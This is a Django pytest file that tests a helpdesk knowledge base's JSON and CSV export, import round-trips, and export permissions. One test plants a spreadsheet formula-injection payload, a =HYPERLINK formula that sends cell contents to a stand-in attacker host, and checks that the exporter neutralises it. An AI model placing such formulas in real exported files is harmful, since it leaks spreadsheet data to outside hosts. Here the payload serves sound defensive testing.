"""KB export: JSON and CSV with translations, and an import of an export round-trips."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission, User

from helpdesk.models import Article, Chunk
from helpdesk.services.exports import export_csv, export_json
from helpdesk.services.imports import run_import, start_import

FIXTURES = Path(__file__).parent / "fixtures" / "imports"
FIELDS = ("translation_group", "locale", "title", "body", "category", "external_id", "status")


def import_files(files, callbacks):
    with callbacks():
        job = start_import(files=files)
    with callbacks():
        return run_import(job_id=job.id)


def kb_state() -> list[tuple]:
    return sorted(Article.objects.values_list(*FIELDS))


@pytest.fixture
def kb(django_capture_on_commit_callbacks):
    import_files([("all.zip", (FIXTURES / "all.zip").read_bytes())], django_capture_on_commit_callbacks)
    Article.objects.filter(title="Track your order").update(status="draft")
    return kb_state()


@pytest.mark.django_db
def test_json_export_lists_every_article_with_its_translation_key(kb):
    payload = json.loads(export_json())

    assert payload["format"] == "polyglot-desk-kb" and payload["count"] == 11
    reset = [a for a in payload["articles"] if a["external_id"] == "kb-reset-password"]
    assert [a["locale"] for a in reset] == ["de", "en", "es"]
    assert len({a["translation_key"] for a in reset}) == 1
    assert {a["status"] for a in payload["articles"]} == {"draft", "published"}
    assert len(json.loads(export_json(status="draft"))["articles"]) == 1


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_importing_an_export_into_the_same_kb_changes_nothing(kb, fmt, django_capture_on_commit_callbacks):
    data = (export_json() if fmt == "json" else export_csv()).encode()

    job = import_files([(f"export.{fmt}", data)], django_capture_on_commit_callbacks)

    assert (job.articles_created, job.articles_updated, job.articles_unchanged) == (0, 0, 11)
    assert kb_state() == kb


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_importing_an_export_into_an_empty_kb_recreates_it(kb, fmt, django_capture_on_commit_callbacks):
    data = (export_json() if fmt == "json" else export_csv()).encode()
    Article.objects.all().delete()

    job = import_files([(f"export.{fmt}", data)], django_capture_on_commit_callbacks)

    assert job.articles_created == 11 and job.files_failed == 0
    assert kb_state() == kb
    assert Chunk.objects.filter(article__in=Article.objects.all()).values("article").distinct().count() == 11


@pytest.mark.django_db
def test_csv_export_has_a_header_and_one_row_per_article_and_locale(kb):
    rows = list(csv.DictReader(io.StringIO(export_csv())))

    assert list(rows[0]) == ["translation_key", "locale", "title", "body", "category", "external_id", "status"]
    assert len(rows) == 11
    faq = sorted((r["locale"], r["title"]) for r in rows if r["external_id"] == "faq-1")
    assert faq == [("en", "Change your delivery address"), ("pt-BR", "Alterar o endereço de entrega")]


@pytest.mark.django_db
def test_csv_cells_a_spreadsheet_would_run_are_guarded_and_still_round_trip(kb, django_capture_on_commit_callbacks):
    title = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
    Article.objects.filter(external_id="faq-1", locale="en").update(title=title, category="-1 day refunds")
    before = kb_state()

    rows = list(csv.DictReader(io.StringIO(export_csv())))
    row = next(r for r in rows if r["external_id"] == "faq-1" and r["locale"] == "en")
    assert (row["title"], row["category"]) == ("'" + title, "'-1 day refunds")

    job = import_files([("export.csv", export_csv().encode())], django_capture_on_commit_callbacks)
    assert (job.articles_updated, job.articles_unchanged) == (0, 11)
    assert kb_state() == before


@pytest.mark.django_db
def test_export_download_needs_the_export_permission(client, kb):
    user = User.objects.create_user("agent", password="pw-agent-123456")
    user.user_permissions.add(Permission.objects.get(codename="view_article"))
    client.force_login(user)
    assert client.get("/desk/kb/export/?format=json").status_code == 403

    user.user_permissions.add(Permission.objects.get(codename="export_knowledge_base"))
    user = User.objects.get(pk=user.pk)
    client.force_login(user)
    response = client.get("/desk/kb/export/?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="knowledge-base-')
    assert len(list(csv.DictReader(io.StringIO(response.content.decode())))) == 11
    assert client.get("/desk/kb/export/?format=xml").status_code == 400


@pytest.mark.django_db
def test_export_and_import_commands_round_trip_through_a_file(kb, tmp_path):
    from django.core.management import call_command

    target = tmp_path / "kb.csv"
    call_command("export_kb", "--format", "csv", "-o", str(target))
    Article.objects.all().delete()

    out = io.StringIO()
    call_command("import_kb", str(target), "--no-progress", stdout=out)

    assert "11 articles created, 0 updated, 0 unchanged" in out.getvalue()
    assert kb_state() == kb
